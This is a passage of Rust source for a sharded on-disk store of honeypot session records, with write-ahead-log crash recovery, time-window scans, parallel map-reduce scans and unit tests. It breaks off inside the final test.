//! The sharded store: a directory of segments plus a `MANIFEST` tag.
//!
//! Writing rolls a new segment every `rows_per_segment` rows; reading
//! opens every segment's header/footer up front (cheap — two small reads
//! each) and then streams blocks on demand. See the crate docs for the
//! segment layout.

use crate::segment::{sync_dir, SegmentMeta, SegmentReader, SegmentWriter};
use crate::wal::{self, FsyncPolicy, WalWriter};
use crate::{SessionDbError, DEFAULT_ROWS_PER_SEGMENT, MAGIC, MANIFEST_TAG, SEGMENT_EXT, WAL_FILE};
use honeypot::{SessionRecord, SessionSink, SinkError};
use hutil::DateTime;
use std::io::Read;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Mutex;

/// Does `path` look like a sessiondb store (directory with a manifest or
/// segments) or a single segment file (magic bytes)? Used by the CLI to
/// auto-detect input formats without an explicit flag.
pub fn is_sessiondb_path(path: impl AsRef<Path>) -> bool {
    let path = path.as_ref();
    if path.is_dir() {
        if path.join("MANIFEST").is_file() {
            return true;
        }
        return segment_paths(path).map(|v| !v.is_empty()).unwrap_or(false);
    }
    if path.is_file() {
        let mut magic = [0u8; 4];
        if let Ok(mut f) = std::fs::File::open(path) {
            if f.read_exact(&mut magic).is_ok() {
                return magic == MAGIC;
            }
        }
    }
    false
}

fn segment_paths(dir: &Path) -> Result<Vec<PathBuf>, SessionDbError> {
    let mut out = Vec::new();
    let entries = std::fs::read_dir(dir).map_err(|e| SessionDbError::io(dir, e))?;
    for entry in entries {
        let entry = entry.map_err(|e| SessionDbError::io(dir, e))?;
        let p = entry.path();
        if p.extension().and_then(|e| e.to_str()) == Some(SEGMENT_EXT) {
            out.push(p);
        }
    }
    // Segment names are zero-padded, so lexicographic order is append
    // order — and therefore session-id order for collector-fed stores.
    out.sort();
    Ok(out)
}

/// Orphaned temporary files left by a crash mid-seal.
fn orphaned_tmp_paths(dir: &Path) -> Result<Vec<PathBuf>, SessionDbError> {
    let mut out = Vec::new();
    let entries = std::fs::read_dir(dir).map_err(|e| SessionDbError::io(dir, e))?;
    for entry in entries {
        let entry = entry.map_err(|e| SessionDbError::io(dir, e))?;
        let p = entry.path();
        let name = entry.file_name();
        if name
            .to_str()
            .is_some_and(|n| n.ends_with(".hsdb.tmp") && n.starts_with("seg-"))
        {
            out.push(p);
        }
    }
    out.sort();
    Ok(out)
}

// --- recovery ------------------------------------------------------------

/// What crash recovery found (and, unless previewing, did) in a store.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct RecoveryReport {
    /// A write-ahead log was present — the previous writer did not close
    /// cleanly.
    pub wal_found: bool,
    /// The WAL covered a segment that had already sealed (crash landed
    /// between the seal and the log truncation); its frames are
    /// duplicates and were discarded.
    pub wal_stale: bool,
    /// Valid frames replayed from the WAL.
    pub wal_frames: u64,
    /// Bytes after the last valid frame — a torn tail, lost.
    pub wal_bytes_lost: u64,
    /// Sessions re-sealed into [`RecoveryReport::recovered_segment`].
    pub recovered_rows: u64,
    /// Segment the recovered sessions were sealed into.
    pub recovered_segment: Option<PathBuf>,
    /// Orphaned `.hsdb.tmp` files removed.
    pub tmp_removed: usize,
}

impl RecoveryReport {
    /// Whether the store needed any recovery at all.
    pub fn is_clean(&self) -> bool {
        !self.wal_found && self.tmp_removed == 0
    }

    /// Human-readable multi-line summary (empty for a clean store).
    pub fn render(&self) -> String {
        let mut out = String::new();
        if self.tmp_removed > 0 {
            out.push_str(&format!(
                "removed {} orphaned .hsdb.tmp file(s)\n",
                self.tmp_removed
            ));
        }
        if self.wal_found {
            out.push_str(&format!(
                "wal: {} frame(s) replayable, {} byte(s) lost{}\n",
                self.wal_frames,
                self.wal_bytes_lost,
                if self.wal_stale {
                    " (stale: segment already sealed, frames discarded)"
                } else {
                    ""
                }
            ));
        }
        if let Some(seg) = &self.recovered_segment {
            out.push_str(&format!(
                "recovered {} session(s) into {}\n",
                self.recovered_rows,
                seg.display()
            ));
        }
        out
    }
}

/// Whether `path` is a store directory with crash leftovers (a WAL or an
/// orphaned `.hsdb.tmp`) that [`recover`] would act on.
pub fn needs_recovery(path: impl AsRef<Path>) -> bool {
    let path = path.as_ref();
    if !path.is_dir() {
        return false;
    }
    if path.join(WAL_FILE).is_file() {
        return true;
    }
    orphaned_tmp_paths(path)
        .map(|v| !v.is_empty())
        .unwrap_or(false)
}

/// Recovers a store directory after a crash: removes orphaned `.hsdb.tmp`
/// files, replays the longest valid WAL prefix, re-seals the replayed
/// rows into a real segment, and removes the log. Safe on a clean store
/// (does nothing). Must not run concurrently with a live writer.
pub fn recover(path: impl AsRef<Path>) -> Result<RecoveryReport, SessionDbError> {
    recover_impl(path.as_ref(), true)
}

/// Read-only version of [`recover`]: reports what recovery *would* do
/// without touching the store — safe while a writer is live.
pub fn recovery_preview(path: impl AsRef<Path>) -> Result<RecoveryReport, SessionDbError> {
    recover_impl(path.as_ref(), false)
}

fn recover_impl(dir: &Path, apply: bool) -> Result<RecoveryReport, SessionDbError> {
    let mut report = RecoveryReport::default();
    if !dir.is_dir() {
        return Ok(report); // single-file stores carry no WAL
    }
    for tmp in orphaned_tmp_paths(dir)? {
        report.tmp_removed += 1;
        if apply {
            std::fs::remove_file(&tmp).map_err(|e| SessionDbError::io(&tmp, e))?;
        }
    }
    let wal_path = dir.join(WAL_FILE);
    if !wal_path.is_file() {
        return Ok(report);
    }
    report.wal_found = true;
    let replay = wal::replay(&wal_path)?;
    report.wal_frames = replay.rows.len() as u64;
    report.wal_bytes_lost = replay.bytes_lost;

    let existing = segment_paths(dir)?;
    let covered = dir.join(format!("seg-{:06}.{SEGMENT_EXT}", replay.segment_index));
    if existing.contains(&covered) {
        // The crash landed between sealing the covered segment and
        // truncating the log: every frame is already on disk.
        report.wal_stale = true;
        if apply {
            std::fs::remove_file(&wal_path).map_err(|e| SessionDbError::io(&wal_path, e))?;
            sync_dir(dir)?;
        }
        return Ok(report);
    }
    if replay.rows.is_empty() {
        if apply {
            std::fs::remove_file(&wal_path).map_err(|e| SessionDbError::io(&wal_path, e))?;
            sync_dir(dir)?;
        }
        return Ok(report);
    }
    // Seal after every existing segment so lexicographic scan order is
    // preserved even if the WAL header's index somehow lags.
    let max_existing = existing
        .iter()
        .filter_map(|p| {
            p.file_stem()
                .and_then(|s| s.to_str())
                .and_then(|s| s.strip_prefix("seg-"))
                .and_then(|s| s.parse::<u64>().ok())
        })
        .max();
    let index = max_existing.map_or(replay.segment_index, |m| replay.segment_index.max(m + 1));
    let seg_path = dir.join(format!("seg-{index:06}.{SEGMENT_EXT}"));
    report.recovered_rows = replay.rows.len() as u64;
    report.recovered_segment = Some(seg_path.clone());
    if apply {
        let mut w = SegmentWriter::create(&seg_path);
        for r in &replay.rows {
            w.push(r);
        }
        w.finish()?; // durable: fsyncs the tmp, renames, fsyncs the dir
        std::fs::remove_file(&wal_path).map_err(|e| SessionDbError::io(&wal_path, e))?;
        sync_dir(dir)?;
    }
    Ok(report)
}

// --- writer --------------------------------------------------------------

/// Appends sessions to a store directory, sealing a segment every
/// `rows_per_segment` rows.
///
/// Implements [`honeypot::SessionSink`], so it can sit behind a
/// `Collector::with_sink` and receive records through the collector's
/// retry/quarantine machinery. Call [`StoreWriter::finish`] (or let the
/// collector's `into_sink_parts` call `SessionSink::finish`) to seal the
/// final partial segment.
pub struct StoreWriter {
    dir: PathBuf,
    rows_per_segment: usize,
    next_segment: u64,
    current: Option<SegmentWriter>,
    sealed: Vec<SegmentMeta>,
    total_rows: u64,
    wal: Option<WalWriter>,
}

/// How to open a [`StoreWriter`].
#[derive(Debug, Clone, Copy)]
pub struct StoreOptions {
    /// Rows per sealed segment.
    pub rows_per_segment: usize,
    /// `Some(policy)` enables the write-ahead log: every appended record
    /// hits the log before the in-memory segment buffer, so a crash
    /// loses at most the configured fsync window. `None` (the batch
    /// default) keeps the seed behavior — unsealed rows live only in
    /// memory.
    pub wal: Option<FsyncPolicy>,
}

impl Default for StoreOptions {
    fn default() -> Self {
        Self {
            rows_per_segment: DEFAULT_ROWS_PER_SEGMENT,
            wal: None,
        }
    }
}

impl StoreWriter {
    /// Creates (or opens for append) a store at `dir` with the default
    /// segment size.
    pub fn create(dir: impl Into<PathBuf>) -> Result<Self, SessionDbError> {
        Self::with_rows_per_segment(dir, DEFAULT_ROWS_PER_SEGMENT)
    }

    /// Creates a store sealing a segment every `rows_per_segment` rows.
    pub fn with_rows_per_segment(
        dir: impl Into<PathBuf>,
        rows_per_segment: usize,
    ) -> Result<Self, SessionDbError> {
        let (w, _report) = Self::with_options(
            dir,
            StoreOptions {
                rows_per_segment,
                ..StoreOptions::default()
            },
        )?;
        Ok(w)
    }

    /// Creates (or opens for append) a store, running crash recovery
    /// first: orphaned `.hsdb.tmp` files are removed and any leftover
    /// WAL is replayed and re-sealed into a real segment before the
    /// writer resumes. The report says what (if anything) was salvaged.
    pub fn with_options(
        dir: impl Into<PathBuf>,
        opts: StoreOptions,
    ) -> Result<(Self, RecoveryReport), SessionDbError> {
        let dir = dir.into();
        std::fs::create_dir_all(&dir).map_err(|e| SessionDbError::io(&dir, e))?;
        let manifest = dir.join("MANIFEST");
        std::fs::write(&manifest, format!("{MANIFEST_TAG}\n"))
            .map_err(|e| SessionDbError::io(&manifest, e))?;
        let report = recover_impl(&dir, true)?;
        // Resume after any existing segments rather than clobbering them.
        let existing = segment_paths(&dir)?;
        let next_segment = existing
            .iter()
            .filter_map(|p| {
                p.file_stem()
                    .and_then(|s| s.to_str())
                    .and_then(|s| s.strip_prefix("seg-"))
                    .and_then(|s| s.parse::<u64>().ok())
            })
            .max()
            .map_or(0, |n| n + 1);
        let wal = match opts.wal {
            None => None,
            Some(policy) => Some(WalWriter::create(dir.join(WAL_FILE), policy, next_segment)?),
        };
        Ok((
            Self {
                dir,
                rows_per_segment: opts.rows_per_segment.max(1),
                next_segment,
                current: None,
                sealed: Vec::new(),
                total_rows: 0,
                wal,
            },
            report,
        ))
    }

    fn segment_path(&self, index: u64) -> PathBuf {
        self.dir.join(format!("seg-{index:06}.{SEGMENT_EXT}"))
    }

    /// Appends one record, sealing the current segment if it is full.
    /// With a WAL enabled, the record is logged (durably, per the fsync
    /// policy) before it enters the in-memory segment buffer.
    pub fn append(&mut self, rec: &SessionRecord) -> Result<(), SessionDbError> {
        if self.current.is_none() {
            let path = self.segment_path(self.next_segment);
            self.next_segment += 1;
            self.current = Some(SegmentWriter::create(path));
        }
        if let Some(wal) = &mut self.wal {
            wal.append(rec)?;
        }
        let writer = self
            .current
            .as_mut()
            .expect("segment writer just installed");
        writer.push(rec);
        self.total_rows += 1;
        if writer.rows() as usize >= self.rows_per_segment {
            self.seal()?;
        }
        Ok(())
    }

    fn seal(&mut self) -> Result<(), SessionDbError> {
        if let Some(writer) = self.current.take() {
            self.sealed.push(writer.finish()?);
            // The sealed segment now owns these rows (and the seal is
            // durable), so the log restarts for the next segment.
            if let Some(wal) = &mut self.wal {
                wal.reset(self.next_segment)?;
            }
        }
        Ok(())
    }

    /// Rows appended so far (including the unsealed tail).
    pub fn rows(&self) -> u64 {
        self.total_rows
    }

    /// Seals the final partial segment and returns metadata for every
    /// segment this writer produced. A clean close removes the WAL —
    /// everything it guarded is sealed.
    pub fn finish(mut self) -> Result<Vec<SegmentMeta>, SessionDbError> {
        self.seal()?;
        if let Some(wal) = self.wal.take() {
            wal.remove()?;
        }
        Ok(std::mem::take(&mut self.sealed))
    }

    /// Store directory.
    pub fn dir(&self) -> &Path {
        &self.dir
    }
}

impl SessionSink for StoreWriter {
    fn append(&mut self, rec: &SessionRecord) -> Result<(), SinkError> {
        StoreWriter::append(self, rec).map_err(|e| Box::new(e) as SinkError)
    }

    fn finish(&mut self) -> Result<(), SinkError> {
        self.seal().map_err(|e| Box::new(e) as SinkError)?;
        if let Some(wal) = self.wal.take() {
            wal.remove().map_err(|e| Box::new(e) as SinkError)?;
        }
        Ok(())
    }
}

// --- store / scans -------------------------------------------------------

/// Cheap aggregate facts from headers/footers only (no block reads).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StoreSummary {
    /// Number of segment files.
    pub segments: usize,
    /// Total sessions across all segments.
    pub rows: u64,
    /// Earliest session start across the store.
    pub min_start: Option<DateTime>,
    /// Latest session start across the store.
    pub max_start: Option<DateTime>,
}

/// An opened store: validated segment metadata, ready to scan.
#[derive(Debug, Clone)]
pub struct Store {
    segments: Vec<SegmentReader>,
}

impl Store {
    /// Opens a store directory or a single segment file, validating every
    /// segment's header and footer.
    pub fn open(path: impl AsRef<Path>) -> Result<Self, SessionDbError> {
        let path = path.as_ref();
        if path.is_file() {
            return Ok(Self {
                segments: vec![SegmentReader::open(path)?],
            });
        }
        if !path.is_dir() {
            return Err(SessionDbError::NotAStore {
                path: path.display().to_string(),
            });
        }
        let paths = segment_paths(path)?;
        if paths.is_empty() && !path.join("MANIFEST").is_file() {
            return Err(SessionDbError::NotAStore {
                path: path.display().to_string(),
            });
        }
        let segments = paths
            .into_iter()
            .map(SegmentReader::open)
            .collect::<Result<Vec<_>, _>>()?;
        Ok(Self { segments })
    }

    /// Per-segment metadata, in scan order.
    pub fn segments(&self) -> impl Iterator<Item = &SegmentMeta> {
        self.segments.iter().map(|r| r.meta())
    }

    /// Header/footer-only summary.
    pub fn summary(&self) -> StoreSummary {
        let mut s = StoreSummary {
            segments: self.segments.len(),
            rows: 0,
            min_start: None,
            max_start: None,
        };
        for m in self.segments() {
            s.rows += m.rows;
            if let Some(lo) = m.min_start {
                s.min_start = Some(s.min_start.map_or(lo, |cur: DateTime| cur.min(lo)));
            }
            if let Some(hi) = m.max_start {
                s.max_start = Some(s.max_start.map_or(hi, |cur: DateTime| cur.max(hi)));
            }
        }
        s
    }

    /// Streams every segment in order. Memory is bounded by one decoded
    /// segment at a time.
    pub fn scan(&self) -> Scan<'_> {
        Scan {
            segments: &self.segments,
            next: 0,
            window: None,
        }
    }

    /// Streams only segments whose zone map intersects the half-open
    /// window `[min, max)` on session *start* time: a session starting
    /// exactly at `min` is included, one starting exactly at `max` is
    /// not, so adjacent windows tile without double-counting. Records
    /// inside a surviving segment are additionally filtered to the
    /// window.
    pub fn scan_window(&self, min: DateTime, max: DateTime) -> Scan<'_> {
        Scan {
            segments: &self.segments,
            next: 0,
            window: Some((min, max)),
        }
    }

    /// Decodes segments on `workers` scoped threads, folding each batch
    /// with `map` and combining per-worker accumulators with `reduce`.
    ///
    /// Segments are handed out via an atomic cursor, so a slow segment
    /// never stalls the others; each worker holds at most one decoded
    /// segment, keeping the whole scan out-of-core. Errors from any
    /// segment abort the scan.
    pub fn par_scan<T, Map, Reduce>(
        &self,
        workers: usize,
        map: Map,
        reduce: Reduce,
    ) -> Result<T, SessionDbError>
    where
        T: Default + Send,
        Map: Fn(&mut T, Vec<SessionRecord>) + Sync,
        Reduce: Fn(T, T) -> T,
    {
        let workers = workers.clamp(1, self.segments.len().max(1));
        let cursor = AtomicUsize::new(0);
        let error: Mutex<Option<SessionDbError>> = Mutex::new(None);
        let accs: Vec<T> = crossbeam::thread::scope(|scope| {
            let handles: Vec<_> = (0..workers)
                .map(|_| {
                    scope.spawn(|_| {
                        let mut acc = T::default();
                        loop {
                            let i = cursor.fetch_add(1, Ordering::Relaxed);
                            let Some(reader) = self.segments.get(i) else {
                                break;
                            };
                            if error.lock().expect("scan error lock").is_some() {
                                break;
                            }
                            match reader.read_all() {
                                Ok(batch) => map(&mut acc, batch),
                                Err(e) => {
                                    error.lock().expect("scan error lock").get_or_insert(e);
                                    break;
                                }
                            }
                        }
                        acc
                    })
                })
                .collect();
            handles
                .into_iter()
                .map(|h| h.join().unwrap_or_else(|p| std::panic::resume_unwind(p)))
                .collect()
        })
        .unwrap_or_else(|p| std::panic::resume_unwind(p));
        if let Some(e) = error.into_inner().expect("scan error lock") {
            return Err(e);
        }
        Ok(accs.into_iter().fold(T::default(), reduce))
    }

    /// Decodes segments on `workers` scoped threads, mapping each
    /// segment's batch to a value; the results come back in **segment
    /// index order**, regardless of which worker decoded which segment.
    ///
    /// This is the deterministic backbone for parallel map-reduce
    /// analyses whose merge is associative but not commutative (e.g.
    /// event-list concatenation): folding the returned values left to
    /// right reproduces the serial scan's order exactly. `map` receives
    /// the segment index alongside the batch. Errors from any segment
    /// abort the scan, exactly as in [`Store::par_scan`].
    pub fn par_scan_map<T, Map>(&self, workers: usize, map: Map) -> Result<Vec<T>, SessionDbError>
    where
        T: Send,
        Map: Fn(usize, Vec<SessionRecord>) -> T + Sync,
    {
        let workers = workers.clamp(1, self.segments.len().max(1));
        let cursor = AtomicUsize::new(0);
        let error: Mutex<Option<SessionDbError>> = Mutex::new(None);
        let slots: Vec<Mutex<Option<T>>> =
            (0..self.segments.len()).map(|_| Mutex::new(None)).collect();
        crossbeam::thread::scope(|scope| {
            for _ in 0..workers {
                scope.spawn(|_| loop {
                    let i = cursor.fetch_add(1, Ordering::Relaxed);
                    let Some(reader) = self.segments.get(i) else {
                        break;
                    };
                    if error.lock().expect("scan error lock").is_some() {
                        break;
                    }
                    match reader.read_all() {
                        Ok(batch) => {
                            *slots[i].lock().expect("slot lock") = Some(map(i, batch));
                        }
                        Err(e) => {
                            error.lock().expect("scan error lock").get_or_insert(e);
                            break;
                        }
                    }
                });
            }
        })
        .unwrap_or_else(|p| std::panic::resume_unwind(p));
        if let Some(e) = error.into_inner().expect("scan error lock") {
            return Err(e);
        }
        Ok(slots
            .into_iter()
            .map(|s| {
                s.into_inner()
                    .expect("slot lock")
                    .expect("every segment mapped on success")
            })
            .collect())
    }
}

/// Streaming iterator over a store's segments, yielding one decoded
/// batch per surviving segment.
pub struct Scan<'a> {
    segments: &'a [SegmentReader],
    next: usize,
    window: Option<(DateTime, DateTime)>,
}

impl<'a> Scan<'a> {
    /// Flattens the batch stream into single records.
    ///
    /// Errors surface as one `Err` item and end the stream.
    pub fn records(self) -> impl Iterator<Item = Result<SessionRecord, SessionDbError>> + 'a {
        let mut batches = self;
        let mut current: std::vec::IntoIter<SessionRecord> = Vec::new().into_iter();
        let mut failed = false;
        std::iter::from_fn(move || loop {
            if failed {
                return None;
            }
            if let Some(rec) = current.next() {
                return Some(Ok(rec));
            }
            match batches.next() {
                Some(Ok(batch)) => current = batch.into_iter(),
                Some(Err(e)) => {
                    failed = true;
                    return Some(Err(e));
                }
                None => return None,
            }
        })
    }
}

impl Iterator for Scan<'_> {
    type Item = Result<Vec<SessionRecord>, SessionDbError>;

    fn next(&mut self) -> Option<Self::Item> {
        loop {
            let reader = self.segments.get(self.next)?;
            self.next += 1;
            if let Some((lo, hi)) = self.window {
                if !reader.meta().overlaps(lo, hi) {
                    continue; // zone-map pruned: blocks never read
                }
            }
            let batch = match reader.read_all() {
                Ok(b) => b,
                Err(e) => {
                    self.next = self.segments.len(); // poison: stop the scan
                    return Some(Err(e));
                }
            };
            if let Some((lo, hi)) = self.window {
                let filtered: Vec<SessionRecord> = batch
                    .into_iter()
                    .filter(|r| r.start >= lo && r.start < hi)
                    .collect();
                if filtered.is_empty() {
                    continue;
                }
                return Some(Ok(filtered));
            }
            return Some(Ok(batch));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use honeypot::{LoginAttempt, Protocol, SessionEndReason};
    use hutil::Date;
    use netsim::Ipv4Addr;

    fn rec(i: u64) -> SessionRecord {
        SessionRecord {
            session_id: i,
            honeypot_id: 0,
            honeypot_ip: Ipv4Addr(1),
            client_ip: Ipv4Addr(2 + i as u32),
            client_port: 40000,
            protocol: Protocol::Ssh,
            start: Date::new(2021, 12, 1)
                .at_midnight()
                .plus_secs(i as i64 * 86_400),
            end: Date::new(2021, 12, 1)
                .at_midnight()
                .plus_secs(i as i64 * 86_400 + 30),
            end_reason: SessionEndReason::ClientClose,
            client_version: None,
            logins: vec![LoginAttempt {
                username: "root".into(),
                password: "hunter2".into(),
                success: true,
            }],
            commands: vec![],
            uris: vec![],
            file_events: vec![],
        }
    }

    fn tmpdir(name: &str) -> PathBuf {
        let d = std::env::temp_dir().join(format!("sessiondb-store-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&d);
        d
    }

    #[test]
    fn rolls_segments_and_scans_in_order() {
        let dir = tmpdir("roll");
        let mut w = StoreWriter::with_rows_per_segment(&dir, 10).unwrap();
        let recs: Vec<SessionRecord> = (0..35).map(rec).collect();
        for r in &recs {
            StoreWriter::append(&mut w, r).unwrap();
        }
        let metas = w.finish().unwrap();
        assert_eq!(metas.len(), 4); // 10+10+10+5
        assert_eq!(metas.iter().map(|m| m.rows).sum::<u64>(), 35);

        let store = Store::open(&dir).unwrap();
        assert_eq!(store.summary().rows, 35);
        let got: Vec<SessionRecord> = store
            .scan()
            .records()
            .collect::<Result<Vec<_>, _>>()
            .unwrap();
        assert_eq!(got, recs);
    }

    #[test]
    fn empty_store_is_valid_and_detectable() {
        let dir = tmpdir("empty");
        let w = StoreWriter::create(&dir).unwrap();
        assert!(w.finish().unwrap().is_empty());
        assert!(is_sessiondb_path(&dir));
        let store = Store::open(&dir).unwrap();
        assert_eq!(store.summary().rows, 0);
        assert_eq!(store.scan().records().count(), 0);
    }

    #[test]
    fn zone_maps_prune_and_filter() {
        let dir = tmpdir("prune");
        // One session per day for 35 days, 10 per segment.
        let mut w = StoreWriter::with_rows_per_segment(&dir, 10).unwrap();
        for i in 0..35 {
            StoreWriter::append(&mut w, &rec(i)).unwrap();
        }
        w.finish().unwrap();
        let store = Store::open(&dir).unwrap();
        // Half-open window [Dec 13, Dec 19) covers days 12..=17 — only
        // segment 1 (days 10-19) survives pruning.
        let lo = Date::new(2021, 12, 13).at_midnight();
        let hi = Date::new(2021, 12, 19).at_midnight();
        let batches: Vec<_> = store
            .scan_window(lo, hi)
            .collect::<Result<Vec<_>, _>>()
            .unwrap();
        assert_eq!(
            batches.len(),
            1,
            "exactly one segment intersects the window"
        );
        let ids: Vec<u64> = batches[0].iter().map(|r| r.session_id).collect();
        assert_eq!(ids, vec![12, 13, 14, 15, 16, 17]);
    }

    #[test]
    fn scan_window_is_half_open_at_record_level() {
        let dir = tmpdir("half-open");
        let mut w = StoreWriter::with_rows_per_segment(&dir, 10).unwrap();
        for i in 0..10 {
            StoreWriter::append(&mut w, &rec(i)).unwrap();
        }
        w.finish().unwrap();
        let store = Store::open(&dir).unwrap();
        // rec(i) starts on Dec 1 + i days at midnight exactly: a window
        // [day 3, day 6) keeps the session starting at its lower edge
        // and excludes the one starting at its upper edge.
        let lo = Date::new(2021, 12, 4).at_midnight();
        let hi = Date::new(2021, 12, 7).at_midnight();
        let ids: Vec<u64> = store
            .scan_window(lo, hi)
            .records()
            .map(|r| r.unwrap().session_id)
            .collect();
        assert_eq!(ids, vec![3, 4, 5], "start == min in, start == max out");

        // Adjacent windows tile the store without overlap or gaps.
        let day = |d: u8| Date::new(2021, 12, d).at_midnight();
        let first: Vec<u64> = store
            .scan_window(day(1), day(6))
            .records()
            .map(|r| r.unwrap().session_id)
            .collect();
        let second: Vec<u64> = store
            .scan_window(day(6), day(11))
            .records()
            .map(|r| r.unwrap().session_id)
            .collect();
        assert_eq!(first, vec![0, 1, 2, 3, 4]);
        assert_eq!(second, vec![5, 6, 7, 8, 9]);
    }

    #[test]
    fn scan_window_prunes_segment_starting_at_window_end() {
        let dir = tmpdir("edge-prune");
        // Two segments of 5: segment 1's zone map starts at day 5.
        let mut w = StoreWriter::with_rows_per_segment(&dir, 5).unwrap();
        for i in 0..10 {
            StoreWriter::append(&mut w, &rec(i)).unwrap();
        }
        w.finish().unwrap();
        let store = Store::open(&dir).unwrap();
        let lo = Date::new(2021, 12, 1).at_midnight();
        let hi = Date::new(2021, 12, 6).at_midnight(); // == segment 1 min_start
        let batches: Vec<_> = store
            .scan_window(lo, hi)
            .collect::<Result<Vec<_>, _>>()
            .unwrap();
        assert_eq!(
            batches.len(),
            1,
            "segment whose min_start equals the window end must be pruned"
        );
        assert_eq!(batches[0].len(), 5);
    }

    #[test]
    fn par_scan_matches_serial_scan() {
        let dir = tmpdir("par");
        let mut w = StoreWriter::with_rows_per_segment(&dir, 7).unwrap();
        for i in 0..100 {
            StoreWriter::append(&mut w, &rec(i)).unwrap();
        }
        w.finish().unwrap();
        let store = Store::open(&dir).unwrap();
        let serial: u64 = store.scan().records().map(|r| r.unwrap().session_id).sum();
        let (count, sum) = store
            .par_scan(
                4,
                |acc: &mut (u64, u64), batch| {
                    acc.0 += batch.len() as u64;
                    acc.1 += batch.iter().map(|r| r.session_id).sum::<u64>();
                },
                |a, b| (a.0 + b.0, a.1 + b.1),
            )
            .unwrap();
        assert_eq!(count, 100);
        assert_eq!(sum, serial);
    }

    #[test]
    fn par_scan_map_preserves_segment_order() {
        let dir = tmpdir("par-map");
        let mut w = StoreWriter::with_rows_per_segment(&dir, 7).unwrap();
        for i in 0..100 {
            StoreWriter::append(&mut w, &rec(i)).unwrap();
        }
        w.finish().unwrap();
        let store = Store::open(&dir).unwrap();
        let serial: Vec<u64> = store
            .scan()
            .records()
            .map(|r| r.unwrap().session_id)
            .collect();
        for workers in [1, 3, 8] {
            let per_seg: Vec<Vec<u64>> = store
                .par_scan_map(workers, |_, batch| {
                    batch.iter().map(|r| r.session_id).collect()
                })
                .unwrap();
            assert_eq!(per_seg.len(), 15); // ceil(100 / 7)
            let flat: Vec<u64> = per_seg.into_iter().flatten().collect();
            assert_eq!(flat, serial, "workers={workers}");
        }
        // Segment indices are handed to the map in order too.
        let idx: Vec<usize> = store.par_scan_map(4, |i, _| i).unwrap();
        assert_eq!(idx, (0..15).collect::<Vec<usize>>());
    }

    #[test]
    fn par_scan_map_surfaces_corruption() {
        let dir = tmpdir("par-map-corrupt");
        let mut w = StoreWriter::with_rows_per_segment(&dir, 5).unwrap();
        for i in 0..20 {
            StoreWriter::append(&mut w, &rec(i)).unwrap();
        }
        w.finish().unwrap();
        let victim = dir.join("seg-000002.hsdb");
        let mut bytes = std::fs::read(&victim).unwrap();
        let mid = bytes.len() / 2;
        bytes[mid] ^= 0xFF;
        std::fs::write(&victim, &bytes).unwrap();
        let store = Store::open(&dir).unwrap();
        let err = store
            .par_scan_map(3, |_, b| b.len())
            .expect_err("corruption must abort the scan");
        assert!(matches!(err, SessionDbError::Corrupt { .. }), "{err}");
    }

    #[test]
    fn par_scan_surfaces_corruption() {
        let dir = tmpdir("par-corrupt");
        let mut w = StoreWriter::with_rows_per_segment(&dir, 5).unwrap();
        for i in 0..20 {
            StoreWriter::append(&mut w, &rec(i)).unwrap();
        }
        w.finish().unwrap();
        // Flip a byte in the middle of the second segment's blocks.
        let victim = dir.join("seg-000001.hsdb");
        let mut bytes = std::fs::read(&victim).unwrap();
        let mid = bytes.len() / 2;
        bytes[mid] ^= 0xFF;
        std::fs::write(&victim, &bytes).unwrap();
        let store = Store::open(&dir).unwrap();
        let err = store
            .par_scan(3, |acc: &mut u64, b| *acc += b.len() as u64, |a, b| a + b)
            .expect_err("corruption must abort the scan");
        assert!(matches!(err, SessionDbError::Corrupt { .. }), "{err}");
    }

    #[test]
    fn reopening_appends_after_existing_segments() {
        let dir = tmpdir("reopen");
        let mut w = StoreWriter::with_rows_per_segment(&dir, 4).unwrap();
        for i in 0..8 {
            StoreWriter::append(&mut w, &rec(i)).unwrap();
        }
        w.finish().unwrap();
        let mut w = StoreWriter::with_rows_per_segment(&dir, 4).unwrap();
        for i in 8..12 {
            StoreWriter::append(&mut w, &rec(i)).unwrap();
        }
        w.finish().unwrap();
        let store = Store::open(&dir).unwrap();
        let ids: Vec<u64> = store
            .scan()
            .records()
            .map(|r| r.unwrap().session_id)
            .collect();
        assert_eq!(ids, (0..12).collect::<Vec<u64>>());
    }

    #[test]
    fn single_segment_file_opens_directly() {
        let dir = tmpdir("single");
        let mut w = StoreWriter::with_rows_per_segment(&dir, 100).unwrap();
        for i in 0..5 {
            StoreWriter::append(&mut w, &rec(i)).unwrap();
        }
        w.finish().unwrap();
        let seg = dir.join("seg-000000.hsdb");
        assert!(is_sessiondb_path(&seg));
        let store = Store::open(&seg).unwrap();
        assert_eq!(store.summary().rows, 5);
    }

    #[test]
    fn wal_recovers_unsealed_rows_after_a_crash() {
        let dir = tmpdir("wal-recover");
        let opts = StoreOptions {
            rows_per_segment: 10,
            wal: Some(FsyncPolicy::EveryN(1)),
        };
        let (mut w, report) = StoreWriter::with_options(&dir, opts).unwrap();
        assert!(report.is_clean());
        for i in 0..25 {
            StoreWriter::append(&mut w, &rec(i)).unwrap();
        }
        // Crash: drop the writer without finishing. Segments 0 and 1
        // sealed; rows 20..25 exist only in memory and the WAL.
        drop(w);
        assert!(needs_recovery(&dir));

        let preview = recovery_preview(&dir).unwrap();
        assert_eq!(preview.wal_frames, 5);
        assert!(needs_recovery(&dir), "preview must not mutate");

        let report = recover(&dir).unwrap();
        assert!(report.wal_found);
        assert!(!report.wal_stale);
        assert_eq!(report.recovered_rows, 5);
        assert_eq!(report.wal_bytes_lost, 0);
        assert!(!needs_recovery(&dir));

        let store = Store::open(&dir).unwrap();
        let ids: Vec<u64> = store
            .scan()
            .records()
            .map(|r| r.unwrap().session_id)
            .collect();
        assert_eq!(ids, (0..25).collect::<Vec<u64>>());
    }

    #[test]
    fn reopening_a_crashed_store_recovers_then_appends_in_order() {
        let dir = tmpdir("wal-reopen");
        let opts = StoreOptions {
            rows_per_segment: 10,
            wal: Some(FsyncPolicy::Never),
        };
        let (mut w, _) = StoreWriter::with_options(&dir, opts).unwrap();
        for i in 0..13 {
            StoreWriter::append(&mut w, &rec(i)).unwrap();
        }
        drop(w); // crash with 3 rows only in the WAL

        let (mut w, report) = StoreWriter::with_options(&dir, opts).unwrap();
        assert_eq!(report.recovered_rows, 3);
        for i in 13..17 {
            StoreWriter::append(&mut w, &rec(i)).unwrap();
        }
        w.finish().unwrap();
